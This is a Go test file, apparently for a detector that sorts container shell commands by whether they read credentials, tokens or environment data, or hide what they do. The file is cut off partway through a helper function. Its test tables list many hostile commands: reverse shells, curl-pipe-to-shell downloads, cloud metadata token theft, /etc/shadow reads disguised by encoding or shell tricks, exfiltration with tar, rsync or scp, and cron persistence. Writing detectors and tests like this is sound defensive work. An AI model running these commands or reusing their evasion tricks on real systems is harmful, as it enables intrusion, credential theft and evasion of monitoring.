// SPDX-License-Identifier: Apache-2.0

package command

import (
	"encoding/json"
	"math"
	"runtime"
	"strings"
	"testing"
)

// What a command is given as its input decides what a shell does.
func TestReadsWith(t *testing.T) {
	for _, test := range []struct {
		command string
		in      Stdin
		want    string
	}{
		{"sh", Fed, "opaque"},
		{"sh", Terminal, ""},
		{"sh", NoInput, ""},
		{"/bin/bash -i", Terminal, ""},
		{"/bin/bash -i", Fed, "opaque"},
		{"bash -s", Fed, "opaque"},
		{"bash -", Fed, "opaque"},
		{"bash -s -- --verbose", Fed, "opaque"},
		{"bash --norc -o pipefail", Fed, "opaque"},
		{"su postgres", Fed, "opaque"},
		{"busybox ash", Fed, "opaque"},
		{"env FOO=1 sh", Fed, "opaque"},
		{"setsid bash", Fed, "opaque"},
		{"sudo -u app bash", Fed, "opaque"},
		{"bash /dev/stdin", Fed, "opaque"},
		{"python3", Fed, "opaque"},
		{"python3 -", Fed, "opaque"},
		{"node", Terminal, ""},
		{"perl", Fed, "opaque"},
		{"xargs cat", Fed, "opaque"},
		{"chroot /host", Terminal, "opaque"},
		{"chroot /host bash", Terminal, "opaque"},
		{"nsenter -t 1 -m -u -i -n -p -- bash", Terminal, "opaque"},
		{"psql -U app", Fed, ""},
		{"mysql app", Fed, ""},
		{"tar xmf - -C /app", Fed, ""},
		{"cat", Fed, ""},
		{"tee /app/config.yaml", Fed, ""},
		{"python manage.py shell", Fed, ""},
		{"sh /app/reload.sh", Fed, ""},
		{"redis-cli --pipe", Fed, ""},
	} {
		if got := strings.Join(ReadsWith(strings.Fields(test.command), test.in).Names(), " "); got != test.want {
			t.Errorf("%q with input %d reads %q, want %q", test.command, test.in, got, test.want)
		}
	}
}

// What cannot be judged, by each kind of how a shell's text hides what it does. All
// are scripts of sh -c, without an input.
func TestOpaqueScripts(t *testing.T) {
	for script, want := range map[string]string{
		// Fed within the text.
		"echo aWQK | base64 -d | sh":                                    "opaque",
		"echo 6964 | xxd -r -p | bash":                                  "opaque",
		"openssl enc -d -aes-256-cbc -k x -in /app/f | sh":              "opaque",
		"gunzip -c /app/x.gz | sh":                                      "opaque",
		"cat /app/x | sh":                                               "opaque",
		"cat /app/x | sudo bash -s -- a":                                "opaque",
		"microk8s.kubectl":                                              "",
		"foo 2>&1 | tee /app/x":                                         "",
		"cat /app/x 2>&1 | sh":                                          "opaque",
		"cat /app/x | (sh)":                                             "opaque",
		"cat /app/x | { sh; }":                                          "opaque",
		"echo x |& bash":                                                "opaque",
		"sh < /app/x":                                                   "opaque",
		"sh <<< id":                                                     "opaque",
		"bash <(curl -s http://10.0.0.1/x)":                             "opaque",
		". <(curl -s http://10.0.0.1/x)":                                "opaque",
		"curl -fsSL http://10.0.0.1/x | sh":                             "opaque",
		"wget -qO- http://10.0.0.1/x | bash":                            "opaque",
		"curl -s http://10.0.0.1/x | python3":                           "opaque",
		`sh -c "$(curl -s http://10.0.0.1/x)"`:                          "opaque",
		`eval "$(wget -qO- http://10.0.0.1/x)"`:                         "opaque",
		"curl -o /tmp/x http://10.0.0.1/x; sh /tmp/x":                   "opaque",
		"curl -o /tmp/x http://10.0.0.1/x && chmod +x /tmp/x && /tmp/x": "opaque",
		"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1":                        "opaque",
		"bash -i 0</dev/tcp/10.0.0.1/4444":                              "opaque",
		"nc 10.0.0.1 4444 -e /bin/sh":                                   "opaque",
		"rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i | nc 10.0.0.1 4444 >/tmp/f": "opaque",
		"socat tcp:10.0.0.1:4444 exec:/bin/sh":                                       "opaque",
		// Words that are made when it runs.
		"$a$b":         "opaque",
		"$(echo id)":   "opaque",
		"`echo id`":    "opaque",
		`"$CMD" /x`:    "opaque",
		`sh -c "$CMD"`: "opaque",
		`eval "$CMD"`:  "opaque",
		`eval $a$b`:    "opaque",
		"/b?n/c?t /x":  "opaque",
		"cat $(echo L2V0Yy9zaGFkb3cK | base64 -d)":      "opaque",
		"cat $(printf '\\57etc\\57shadow')":             "opaque",
		"F=$(echo wodahs/cte/ | rev); cat $F":           "opaque",
		"echo L2V0Yy9zaGFkb3cK | base64 -d | xargs cat": "opaque",
		// The same, as far as the text says it.
		"a=/etc/sha; b=dow; cat $a$b":                 "credential",
		"a=ca; b=t; $a$b /etc/shadow":                 "credential",
		"X=shadow; cat /etc/${X}":                     "credential",
		"cat${IFS}/etc/shadow":                        "credential",
		"cat$IFS/etc/shadow":                          "credential",
		"{cat,/etc/shadow}":                           "credential",
		"cat /etc/{passwd,shadow}":                    "credential",
		"cat $'/etc/sh\\x61dow'":                      "credential",
		"$'\\143at' /etc/shadow":                      "credential",
		"cat /etc/$(true)shadow; cat /etc/shadow":     "credential",
		"cat ${F:-/etc/shadow}":                       "credential",
		"C='cat /etc/shadow'; $C":                     "credential",
		"cat <<EOF | tee /x\na\nEOF\ncat /etc/shadow": "credential",
		"(cd /etc; cat shadow)":                       "credential",
		"echo \"$(cat /etc/shadow)\"":                 "credential",
		`exec "$@" _ cat /etc/shadow`:                 "credential",
		// Code.
		"python3 -c 'print(1)'":                                 "opaque",
		"python3.11 -Sc 'print(1)'":                             "opaque",
		"perl -e 'print 1'":                                     "opaque",
		"perl -MMIME::Base64 -e 'print 1'":                      "opaque",
		"perl -ne 'print' /app/x":                               "opaque",
		"ruby -rsocket -e 'puts 1'":                             "opaque",
		"node -e 'console.log(1)'":                              "opaque",
		"node --eval='1'":                                       "opaque",
		"php -r 'echo 1;'":                                      "opaque",
		"lua5.4 -e 'print(1)'":                                  "opaque",
		`awk 'BEGIN{system("id")}'`:                             "opaque",
		`awk 'BEGIN{while((getline l < ARGV[1])>0) print l}' x`: "opaque",
		`gawk 'BEGIN{"id" | getline x; print x}'`:               "opaque",
		"sed -n '1e id' /app/x":                                 "opaque",
		"pwsh -EncodedCommand aQBkAA==":                         "opaque",
		"perl -e 'print %ENV'":                                  "environment",
		"awk 'BEGIN{for(k in ENVIRON) print k}'":                "environment",
		"ruby -e 'puts ENV[\"X\"]'":                             "environment",
		"php -r 'echo getenv(\"X\");'":                          "environment",
		// Whole trees.
		"grep -r password /":                         "token credential",
		"grep -rn PRIVATE /etc":                      "credential",
		"grep --recursive -e BEGIN /home":            "credential",
		"rg -uu AKIA /":                              "token credential",
		"cd / && grep -ri secret .":                  "token credential",
		"find / -type f -exec cat {} \\;":            "token credential",
		"find /root -name '*' -exec base64 {} +":     "credential",
		"find / -type f | xargs grep -l AKIA":        "token credential",
		"find /home -type f -print0 | xargs -0 cat":  "credential",
		"find /etc | cpio -o":                        "credential",
		"find / | while read f; do cat \"$f\"; done": "token credential",
		"tar c /":                            "token credential",
		"tar czf - /etc":                     "credential",
		"tar cf - /proc/1/root":              "token credential",
		"tar cf - /host/root":                "credential",
		"rsync -a / rsync://10.0.0.1/x":      "token credential",
		"zip -r - /root":                     "credential",
		"cp -a /home /x":                     "credential",
		"dd if=/dev/sda1":                    "credential",
		"debugfs -R 'cat /x' /dev/nvme0n1p1": "credential",
		"mount /dev/sda1 /mnt":               "credential",
		"gcore 1":                            "environment",
		"ps auxeww":                          "environment",
		// Clouds.
		"curl http://169.254.169.254/latest/meta-data/iam/security-credentials/": "token",
		"curl 2852039166/x":                     "token",
		"curl http://0xa9fea9fe/":               "token",
		"curl http://0251.0376.0251.0376/":      "token",
		"curl http://169.254.43518/":            "token",
		"curl http://[::ffff:169.254.169.254]/": "token",
		"curl http://[::ffff:a9fe:a9fe]/":       "token",
		"curl 'http://[fd00:ec2::254]/latest'":  "token",
		"wget -qO- http://metadata.google.internal./computeMetadata/v1/instance/service-accounts/default/token":   "token",
		"curl -H 'Metadata-Flavor: Google' http://metadata/x":                                                     "token",
		"curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI":                                               "token",
		"curl http://100.100.100.200/latest/meta-data/ram":                                                        "token",
		"curl http://168.63.129.16/machine?comp=goalstate":                                                        "token",
		"curl -H Metadata:true 'http://169.254.169.254:80/metadata/identity/oauth2/token?api-version=2018-02-01'": "token",
		"exec 3<>/dev/tcp/169.254.169.254/80; cat <&3":                                                            "token",
		"python3 -c 'import urllib.request as u; print(u.urlopen(\"http://169.254.169.254/x\").read())'":          "token opaque",
		"aws sts assume-role --role-arn x":                                                                        "token",
		"aws --region eu-west-1 ecr get-login-password":                                                           "token",
		"aws eks get-token --cluster-name x":                                                                      "token",
		"aws secretsmanager get-secret-value --secret-id x":                                                       "credential",
		"aws ssm get-parameters --names x":                                                                        "credential",
		"gcloud auth print-access-token":                                                                          "token",
		"gcloud auth application-default print-access-token":                                                      "token",
		"az account get-access-token":                                                                             "token",
		"kubectl get secret db -o yaml":                                                                           "credential",
		"kubectl -n shop get secrets":                                                                             "credential",
		"kubectl get pods,secrets -A":                                                                             "credential",
		"kubectl get secret/db":                                                                                   "credential",
		"kubectl get --raw /api/v1/secrets":                                                                       "credential",
		"kubectl create token web":                                                                                "token",
		"kubectl config view --raw":                                                                               "credential",
		"k3s kubectl get secrets -A":                                                                              "credential",
		"oc whoami -t":                                                                                            "token",
		"vault kv get secret/db":                                                                                  "credential",
		"etcdctl get / --prefix --keys-only":                                                                      "credential",
		// Files of distributions.
		"cat /var/lib/rancher/k3s/server/node-token":                                               "credential",
		"cat /var/lib/rancher/k3s/server/token":                                                    "credential",
		"cat /host/var/lib/rancher/rke2/server/token":                                              "credential",
		"cat /var/lib/rancher/rke2/agent/kubelet.kubeconfig":                                       "credential",
		"cat /var/lib/k0s/pki/admin.conf":                                                          "credential",
		"cat /var/snap/microk8s/current/credentials/client.config":                                 "credential",
		"cat /system/secrets/kubernetes/kube-apiserver/x":                                          "credential",
		"cat /var/lib/kubelet/config.json":                                                         "credential",
		"cat /host/var/lib/kubelet/pods/1/volumes/kubernetes.io~secret/db/password":                "credential",
		"cat /host/var/lib/kubelet/pods/1/volumes/kubernetes.io~projected/kube-api-access-x/token": "token",
		"strings /var/lib/etcd/member/snap/db":                                                     "credential",
		"cat ~/.vault-token":                                                                       "credential",
		"cat /vault/secrets/db":                                                                    "credential",
		"cat /mnt/secrets-store/db-password":                                                       "credential",
		"cat /etc/secrets/db":                                                                      "credential",
		"cat /var/run/secrets/azure/tokens/azure-identity-token":                                   "credential",
	} {
		if got := strings.Join(ReadsOf([]string{"sh", "-c", script}).Names(), " "); got != want {
			t.Errorf("%s: reads %q, want %q", script, got, want)
		}
	}
}

// What honest software and people run, and what nothing hides in.
func TestNothingOpaque(t *testing.T) {
	for _, script := range []string{
		"exec foo", "exec /app/server --port 80", "ls", "ls -la /app", "cat /etc/hostname", "id", "hostname", "ps aux", "ps -ef", "df -h", "top -b -n 1", "date",
		"pg_isready -U $POSTGRES_USER -d $POSTGRES_DB", "exec pg_isready -U \"postgres\" -h 127.0.0.1 -p 5432", "mysqladmin ping -p\"$MYSQL_ROOT_PASSWORD\"",
		"redis-cli -a $REDIS_PASSWORD ping | grep PONG", "test $(redis-cli ping) = PONG", "[ $(cat /tmp/ready) = 1 ]", "[[ -f /tmp/ready ]]", "cat /tmp/healthy",
		"curl -sf http://localhost:$PORT/health || exit 1", "wget -q --spider http://127.0.0.1:8080/", "nc -z localhost 5432", "nc -zv db 5432",
		"kill -HUP 1", "kill -TERM $(cat /run/app.pid)", "nginx -t && nginx -s reload", "for i in 1 2 3; do echo $i; sleep 1; done", "until nc -z db 5432; do sleep 1; done",
		"$JAVA_HOME/bin/java -version", "\"$KAFKA_HOME\"/bin/kafka-topics.sh --list", "${CATALINA_HOME}/bin/catalina.sh version", "python --version", "node -v",
		"python manage.py migrate", "node server.js", "php artisan cache:clear", "php -v", "ruby bin/rails db:migrate", "java -jar app.jar", "npm run build", "perl /app/x.pl",
		"ps aux | grep nginx | awk '{print $2}'", "awk '{ if ($1 > 5) print $2 }' /app/x", "sed -i 's/a/b/g' /app/x", "sed -n '1,5p' /app/x", "sed 's/one/two/;s/e f/g/' /app/x", "sed -e 's#/a#/b#' /app/x",
		"tail -n 100 /var/log/app.log | grep ERROR", "grep -r TODO /app", "grep -rn error /var/log", "grep root /etc/passwd", "find /app -name '*.py' | xargs wc -l", "find / -name nginx.conf", "find /tmp -mtime +1 -delete", "find /var/log -name '*.gz' -exec rm {} \\;",
		"tar czf - /data", "tar cf - /var/lib/postgresql/data", "zip -r /data/x.zip /data", "rsync -a /data/ /backup/", "mysqldump -uroot -p$MYSQL_ROOT_PASSWORD app | gzip > /backup/x.sql.gz", "pg_dump app | gzip",
		"echo '{\"a\": 1}' | jq .a", "echo hello | base64", "printf 'a\\n' > /app/x", "base64 -d /app/x > /app/y", "date +%s", "cat /app/config.yaml | sed 's/a/b/' > /app/x",
		"cat /etc/resolv.conf", "dig @169.254.20.10 kubernetes.default", "nslookup kubernetes.default 169.254.20.10", "ping -c 1 169.254.169.254", "iptables -A OUTPUT -d 169.254.169.254 -j DROP", "curl http://10.0.0.1/", "curl http://1.2.3.4:8080/metadata",
		"kubectl get pods", "kubectl config view", "kubectl auth can-i get pods", "kubectl rollout status deploy/x", "aws s3 ls", "aws sts get-caller-identity", "gcloud config list", "az account show", "vault status", "etcdctl endpoint health", "helm list",
		"if [ -x /usr/bin/foo ]; then foo; fi", "while true; do sleep 1; done", "set -euo pipefail; app check", "A=1 B=2 app", "x=$((1+2)); echo $x", "echo ${PATH}", "test -e /x && echo ok", "cd /app && ./run.sh", "sh /app/healthcheck.sh", "bash -x /scripts/check.sh", "/docker-entrypoint.sh true", ". /etc/profile", "source /app/venv/bin/activate && python x.py",
		"mongosh --quiet --eval 'db.adminCommand(\"ping\")'", "psql -c 'select 1'", "rabbitmq-diagnostics -q ping", "cqlsh -e 'describe keyspaces'", "cat <<EOF > /app/x\nhello world\nEOF", "sudo -u app ls", "timeout 5 curl -sf localhost", "nice -n 10 du -sh /data", "ls /etc/*.conf", "rm -rf /tmp/cache", "echo $((RANDOM % 10))", "openssl version", "openssl x509 -noout -dates -in /tls/tls.crt",
		"df /dev/sda1", "lsblk", "command -v getent", "cat /proc/1/status", "cat /proc/meminfo", "stat /data", "du -sh /var/lib/etcd", "tr a-z A-Z < /app/x", "ls | xargs -n 1 echo", "gunzip /data/x.gz", "xargs -a /app/list rm",
	} {
		if got := ReadsOf([]string{"sh", "-c", script}); got != 0 {
			t.Errorf("%s: reads %q", script, got.Names())
		}
	}
}

// What attackers run in containers, each of which reads something or cannot be judged.
func TestSomethingRead(t *testing.T) {
	for _, words := range [][]string{
		{"sh", "-c", "tar -cf - -T /x | nc 10.0.0.1 80"},
		{"sh", "-c", "base64 -w0 /run/secrets/kubernetes.io/serviceaccount/token"},
		{"sh", "-c", "export A=cat; $A /etc/shadow"},
		{"sh", "-c", "read -r c; $c"},
		{"bash", "-c", "exec 5<>/dev/tcp/10.0.0.1/443; cat <&5 | while read l; do $l 2>&5 >&5; done"},
		{"sh", "-c", "php -r '$s=fsockopen(\"10.0.0.1\",1);'"},
		{"busybox", "nc", "10.0.0.1", "443", "-e", "sh"},
		{"sh", "-c", "find / -name '*.pem' -o -name id_rsa"},
		{"find", "/", "-name", "*token*", "-exec", "cat", "{}", "+"},
		{"grep", "-rlE", "AKIA[0-9A-Z]{16}", "/"},
		{"grep", "-R", "password", "/var/www", "/etc"},
		{"egrep", "-ri", "secret", "/home"},
		{"sh", "-c", "cd /;grep -r token ."},
		{"tar", "-zcvf", "/tmp/a.tgz", "/root", "/home"},
		{"sh", "-c", "cd / && tar czf - *"},
		{"sh", "-c", "tar czf - /r*"},
		{"sh", "-c", "find . / -type f 2>/dev/null | cpio -ov"},
		{"zip", "-r", "/tmp/x.zip", "/etc"},
		{"rsync", "-avz", "/root/", "10.0.0.1::x"},
		{"scp", "-r", "/home", "x@10.0.0.1:/"},
		{"wget", "-O-", "--header", "X-aws-ec2-metadata-token: x", "http://instance-data/latest"},
		{"curl", "-H", "Metadata: true", "http://169.254.169.254/metadata/identity/oauth2/token"},
		{"curl", "http://169.254.170.23/v1/credentials"},
		{"curl", "--connect-to", "::169.254.169.254:80", "http://x/"},
		{"curl", "--resolve", "x:80:169.254.169.254", "http://x/"},
		{"sh", "-c", "curl $AWS_CONTAINER_CREDENTIALS_FULL_URI"},
		{"wget", "-qO-", "169.254.169.254.nip.io"},
		{"sh", "-c", "printf 'GET / HTTP/1.0\\r\\n\\r\\n' | nc 169.254.169.254 80"},
		{"python", "-c", "import requests;requests.get('http://[fd00:ec2::254]/latest')"},
		{"sh", "-c", "aws ecr get-authorization-token"},
		{"aws", "--profile", "x", "sts", "get-session-token"},
		{"gcloud", "--quiet", "auth", "print-identity-token"},
		{"az", "account", "get-access-token", "--resource", "x"},
		{"kubectl", "--token=x", "get", "secret", "-n", "a"},
		{"kubectl", "get", "-n", "kube-system", "secrets", "x"},
		{"kubectl", "-n", "x", "create", "token", "default"},
		{"kubectl", "get", "secrets.v1.", "-A"},
		{"sh", "-c", "for s in $(kubectl get secrets -o name); do kubectl get $s; done"},
		{"vault", "token", "lookup"},
		{"cat", "/home/vault/.vault-token"},
		{"sh", "-c", "cat /proc/$(pgrep app)/environ"},
		{"sh", "-c", "strings /proc/1/environ"},
		{"sh", "-c", "xargs -0 < /proc/1/environ"},
		{"sh", "-c", "echo cm0gLXJmCg== | openssl base64 -d | bash"},
		{"sh", "-c", "echo x | tr a-z n-za-m | sh"},
		{"sh", "-c", "eval $(echo x | base64 --decode)"},
		{"sh", "-c", "python3 <(curl x)"},
		{"sh", "-c", "python3 - <<EOF\nimport os\nEOF"},
		{"sh", "-c", "perl <<'EOF'\nprint 1\nEOF"},
		{"sh", "-c", "echo 'print(1)' | python3"},
		{"sh", "-c", "lua -e 'os.execute(\"id\")'"},
		{"sh", "-c", "gawk 'BEGIN { s = \"/inet/tcp/0/10.0.0.1/1\"; while (1) { s |& getline c } }'"},
		{"sh", "-c", "vim -c ':!sh'"},
		{"ruby", "-e", "exec 'sh'"},
		{"node", "-p", "1"},
		{"sh", "-c", "x=$'\\x63\\x61\\x74'; $x /etc/shadow"},
		{"sh", "-c", "$(tr '[A-Z]' '[a-z]' <<< CAT) /x"},
		{"sh", "-c", "${PATH:0:1}bin${PATH:0:1}cat x"},
		{"sh", "-c", "c${u}at /etc/sh${u}adow"},
		{"sh", "-c", "w`echo g`et http://x"},
		{"sh", "-c", "cat /etc/pass* /etc/sh?d*"},
		{"sh", "-c", "cat /e''tc/s\"had\"ow"},
		{"sh", "-c", "rev <<< wodahs/cte/ | xargs cat"},
		{"sh", "-c", "sh /tmp/.x/run.sh"},
		{"/dev/shm/x"},
		{"sh", "-c", "wget -P /tmp http://x/a && chmod 777 /tmp/a && /tmp/a"},
		{"sh", "-c", "curl -sL x -o- | sudo -E bash -"},
		{"sh", "-c", "bash -c \"$(wget -qO- x)\""},
		{"bash", "-c", "source /dev/stdin <<< \"$(curl x)\""},
		{"sh", "-c", "nohup sh -c 'curl x|sh' &"},
		{"sh", "-c", "(crontab -l; echo '* * * * * curl x|sh') | crontab -"},
		{"nsenter", "--target", "1", "--mount", "--", "cat", "/etc/shadow"},
		{"sh", "-c", "mount -t proc none /x; cat /x/1/environ"},
		{"ctr", "-n", "k8s.io", "containers", "info", "x"},
		{"crictl", "inspect", "x"},
		{"docker", "inspect", "x"},
		{"curl", "--unix-socket", "/var/run/docker.sock", "http://x/containers/json"},
		{"curl", "-k", "https://127.0.0.1:10250/pods"},
		{"curl", "-k", "https://kubernetes.default/api/v1/secrets"},
		{"cat", "/var/lib/rancher/rke2/server/cred/admin.kubeconfig"},
		{"cat", "/var/lib/kubelet/kubeconfig"},
		{"cat", "/etc/kubernetes/manifests/kube-apiserver.yaml"},
		{"sh", "-c", "sqlite3 /var/lib/rancher/k3s/server/db/state.db .dump"},
		{"redis-cli", "config", "get", "requirepass"},
		{"sh", "-c", "od -c /run/secrets/x"},
		{"perl", "/tmp/x.pl"},
		{"less", "/etc/shadow"},
		{"sh", "-c", "while read l; do echo $l; done < /etc/shadow"},
		{"sh", "-c", "echo $(</etc/shadow)"},
		{"sh", "-c", "mapfile a < /etc/shadow"},
		{"cp", "/etc/shadow", "/tmp/x"},
		{"ln", "-s", "/etc/shadow", "/x"},
		{"sh", "-c", "cat ~root/.ssh/id_rsa"},
		{"sh", "-c", "xxd -p -r <<< 6964 | sh"},
		{"sh", "-c", "openssl s_client -quiet -connect 10.0.0.1:1 | /bin/sh"},
		{"sh", "-c", "at now <<< id"},
		{"bash", "-c", "printf '%b' '\\151\\144' | bash"},
		{"bash", "-c", "command -p $x"},
		{"sh", "-c", "env $x"},
		{"sh", "-c", "find /tmp -name x -exec sh {} \\;"},
		{"cmd.exe", "/c", "type C:\\var\\run\\secrets\\kubernetes.io\\serviceaccount\\token"},
		{"powershell", "-Command", "Get-Content C:\\x"},
		{"powershell.exe", "Get-ChildItem", "Env:"},
		{"cmd", "/c", "set"},
	} {
		if ReadsOf(words) == 0 {
			t.Errorf("%q reads nothing", words)
		}
	}
}

// What honest software and people run as it is, also at a terminal.
func TestNothingRead(t *testing.T) {
	for _, words := range [][]string{
		{"sh", "-c", "exec mysqladmin -uroot -p${MYSQL_ROOT_PASSWORD} ping"},
		{"bash", "-ec", "PGPASSWORD=$POSTGRES_PASSWORD psql -w -U postgres -d postgres -h 127.0.0.1 -c 'SELECT 1'"},
		{"bash", "-ec", "rabbitmq-diagnostics -q check_running && rabbitmq-diagnostics -q check_local_alarms"},
		{"sh", "-c", "redis-cli -h localhost ping | grep -q PONG"},
		{"sh", "-c", "/health/ping_readiness_local.sh 1"},
		{"/bin/bash", "-ec", "exec pg_isready -U \"postgres\" -h 127.0.0.1 -p 5432\n[ -f /opt/bitnami/postgresql/tmp/.initialized ] || [ -f /bitnami/postgresql/.initialized ]"},
		{"sh", "-c", "wget --no-verbose --tries=1 --spider http://localhost:9200/_cluster/health || exit 1"},
		{"bash", "-c", "curl -s -u elastic:$ELASTIC_PASSWORD http://localhost:9200 | grep cluster"},
		{"sh", "-c", "test \"$(curl -s -o /dev/null -w '%{http_code}' http://localhost/)\" = 200"},
		{"sh", "-c", "ps aux | grep -v grep | grep -c nginx"},
		{"sh", "-c", "ls -la /tmp"},
		{"cat", "/tmp/healthy"},
		{"rm", "-f", "/tmp/x"},
		{"touch", "/tmp/x"},
		{"sh", "-c", "cat /tmp/*.log"},
		{"stat", "/tmp/ready"},
		{"test", "-f", "/tmp/ready"},
		{"sh", "-c", "df -h | awk 'NR==2{print $5}'"},
		{"sh", "-c", "free -m | awk '/Mem/{print $3/$2}'"},
		{"sh", "-c", "cat /etc/nginx/nginx.conf"},
		{"nginx", "-T"},
		{"supervisorctl", "status"},
		{"sh", "-c", "tail -f /var/log/x.log | sed 's/^/x /'"},
		{"psql", "-U", "x", "-c", "select version()"},
		{"mysql", "-uroot", "-e", "show databases"},
		{"mongo", "--eval", "db.stats()"},
		{"sh", "-c", "mysqldump --all-databases -p\"$P\" | gzip -c > /backup/a.gz"},
		{"sh", "-c", "pg_dumpall | gzip"},
		{"bash", "-lc", "bundle exec rails console"},
		{"bash", "-c", "cd /app && bin/rails db:migrate"},
		{"python3", "-m", "pytest"},
		{"python3", "-m", "json.tool"},
		{"pip", "list"},
		{"npm", "ls"},
		{"php", "artisan", "migrate"},
		{"composer", "install"},
		{"node", "dist/main.js"},
		{"sh", "-c", "kubectl get nodes -o wide"},
		{"sh", "-c", "for p in $(seq 1 3); do curl -s localhost:8080/x; done"},
		{"sh", "-c", "echo $HOSTNAME; uname -a"},
		{"sh", "-c", "command -v bash >/dev/null && exec bash || exec sh"},
		{"sh", "-c", "TERM=xterm-256color; export TERM; [ -x /bin/bash ] && ([ -x /usr/bin/script ] && /usr/bin/script -q -c \"/bin/bash\" /dev/null || exec /bin/bash) || exec /bin/sh"},
		{"sh", "-c", "clear; (bash || ash || sh)"},
		{"sh", "-c", "which bash curl"},
		{"du", "-sh", "/var"},
		{"ls", "-R", "/app"},
		{"find", "/", "-xdev", "-size", "+100M"},
		{"find", "/var/log", "-type", "f", "-exec", "truncate", "-s", "0", "{}", ";"},
		{"tar", "xzf", "/app/x.tgz", "-C", "/"},
		{"tar", "czf", "/backup/x.tgz", "/app"},
		{"cp", "-r", "/app", "/backup"},
		{"cp", "/etc/hosts", "/x"},
		{"cat", "/etc/ssl/openssl.cnf"},
		{"openssl", "enc", "-ciphers"},
		{"base64", "/app/logo.png"},
		{"jstack", "1"},
		{"jcmd", "1", "Thread.print"},
		{"jmap", "-histo", "1"},
		{"kill", "1"},
		{"sleep", "1"},
		{"nproc"},
		{"ip", "a"},
		{"ss", "-tlnp"},
		{"netstat", "-an"},
		{"dig", "+short", "x"},
		{"getent", "hosts", "db"},
		{"ping", "-c1", "db"},
		{"traceroute", "8.8.8.8"},
		{"mount"},
		{"lsof", "-i"},
		{"id"},
		{"whoami"},
		{"date"},
		{"uptime"},
		{"top", "-bn1"},
		{"ps", "-eo", "pid,cmd"},
		{"ps", "-ef"},
		{"ps", "aux"},
		{"ps", "axf"},
		{"pgrep", "-f", "x"},
		{"etcdctl", "member", "list"},
		{"etcdctl", "endpoint", "status"},
		{"vault", "status"},
		{"vault", "operator", "unseal"},
		{"consul", "members"},
		{"kafka-topics.sh", "--list"},
		{"cqlsh", "-e", "x"},
		{"nodetool", "status"},
		{"ceph", "status"},
		{"argocd", "app", "list"},
		{"helm", "ls"},
		{"cilium", "status"},
		{"istioctl", "proxy-status"},
		{"pilot-agent", "request", "GET", "stats"},
		{"curl", "localhost:15000/config_dump"},
		{"sh", "-c", "a=1; b=$a; echo $b"},
		{"sh", "-c", "set -x; test -n \"$X\""},
		{"bash", "-c", "trap 'exit 0' TERM; sleep 5 & wait"},
		{"sh", "-c", "if ! [ -d /data/x ]; then mkdir -p /data/x; fi"},
		{"sh", "-c", "case $1 in a) echo b;; esac"},
		{"sh", "-c", "export PATH=$PATH:/x && app --version"},
		{"sh", "-c", "date >> /data/log; sync"},
		{"sh", "-c", "echo 1 > /proc/sys/vm/drop_caches"},
		{"sh", "-c", "umask 077; app"},
		{"sh", "-c", "[ \"$(id -u)\" = 0 ] && echo root"},
		{"sh", "-c", "x=`date +%s`; echo $x"},
		{"sh", "-c", "app 2>&1 | tee /var/log/app.log"},
		{"sh", "-c", "sort /app/x | uniq -c | sort -rn | head"},
		{"sh", "-c", "xargs -n1 -P4 curl -s < /app/urls"},
		{"sh", "-c", "cat /app/version.json | jq -r .version"},
		{"sh", "-c", "ls *.yaml"},
		{"sh", "-c", "echo {1..3}"},
		{"sh", "-c", "printf '%s\\n' a b"},
		{"sh", "-c", "echo -e 'a\\nb'"},
		{"sh", "-c", "\"$JAVA_HOME/bin/java\" -jar x.jar"},
		{"sh", "-c", "$HOME/bin/app check"},
		{"sh", "-c", "${APP_HOME}/bin/healthcheck"},
		{"sh", "-c", "exec \"$@\"", "_", "ls", "/"},
		{"sh", "-c", "sed -e '/^#/d' -e 's/a/b/' /app/x"},
		{"sh", "-c", "sed -n '/start/,/end/p' /app/x"},
		{"sh", "-c", "awk -F: '{print $1}' /etc/passwd"},
		{"sh", "-c", "awk '/system/ {print}' /app/x"},
		{"sh", "-c", "awk '$1 ~ /a|b/ {print $2}' x"},
		{"sh", "-c", "perl -v"},
		{"env", "TERM=xterm", "ls"},
		{"timeout", "10", "curl", "-sf", "localhost"},
		{"tini", "--", "app"},
		{"su", "postgres", "-c", "psql -l"},
		{"gosu", "app", "ls"},
		{"chown", "-R", "app", "/data"},
		{"chroot", "/app", "ls"},
		{"watch", "-n1", "ls"},
		{"nohup", "app"},
		{"script", "-q", "-c", "ls", "/dev/null"},
	} {
		if found := ReadsOf(words) | ReadsWith(words, Terminal); found != 0 {
			t.Errorf("%q reads %q", words, found.Names())
		}
	}
}

// What is longer or deeper than is looked at is not harmless.
func TestOpaqueLength(t *testing.T) {
	for name, words := range map[string][]string{
		"a long script":  {"sh", "-c", strings.Repeat("true;", 4<<10) + "cat /etc/shadow"},
		"many words":     append(strings.Fields(strings.Repeat("a ", 10<<10)), "/etc/shadow"),
		"a deep one":     {"sh", "-c", strings.Repeat("eval ", 40) + "id"},
		"many in others": {"sh", "-c", strings.Repeat("$(echo ", 100) + "id"},
	} {
		if got := ReadsOf(words); got&Opaque == 0 {
			t.Errorf("%s reads %q", name, got.Names())
		}
	}
}

// maxJudged is how many times what encoding/json takes to look through 16 KiB judging a
// command of that length may cost, however it is made.
const maxJudged = 300

// What a command costs to judge is bounded, as is its length.
func TestReadsCost(t *testing.T) {
	runtime.LockOSThread()
	defer runtime.UnlockOSThread()
	var worst float64
	for _, part := range []string{
		"$(", "${", "`", "a$", "$((", "<(", "{a,b}", "{a,{", "a,", "{,", "'", "\"", "\\", "# ", "#", "$'\\x41", "a=$a$a;", "a=bb;$a", "${a:-/x}", "eval ", "sh -c ", "env ", "xargs ",
		"sudo sh -c '", "1.2.3.4 ", "0x1.", "/a", "/*", "*/", "?", "[a", "| ", "||", "&& ", ";", "<", "<<", ">", "find / -exec ", "grep -r / ", "tar c ", "cd x;", "cd /x;", "for a in b; do ",
		"a=b ", "(", ")", "$@ ", "kubectl get ", "x@y:z/", "systemsystem(", "|  ", "e ", "/e ", "e", "$IFS", "${IFS}",
	} {
		script := strings.Repeat(part, maxCommand/len(part))
		for _, words := range [][]string{{"sh", "-c", script}, {"awk", script}, {"sed", script}, {"python", "-c", script}, strings.Fields(script), {"curl", script}} {
			used := judgingCost(t, words)
			worst = max(worst, used)
			if used > maxJudged {
				t.Errorf("%.100q, 16 KiB: %.0f times encoding/json", words, used)
			}
		}
	}
	t.Logf("the worst takes %.0f times encoding/json", worst)
}

// judgingCost is how many times encoding/json's time judging takes, the least of some
// tries or the first that is not above what it may be.
func judgingCost(t *testing.T, words []string) float64 {
